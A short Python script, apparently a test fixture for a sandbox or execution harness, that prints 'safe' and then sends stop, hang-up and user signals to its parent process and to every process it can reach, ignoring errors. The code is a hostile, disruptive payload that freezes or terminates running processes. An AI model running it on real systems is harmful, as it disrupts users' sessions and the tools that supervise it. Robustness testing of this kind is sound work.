import os
import signal

print("safe", flush=True)
for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGUSR1, signal.SIGHUP):
    for target in (os.getppid(), -1):
        try:
            os.kill(target, number)
        except OSError:
            pass
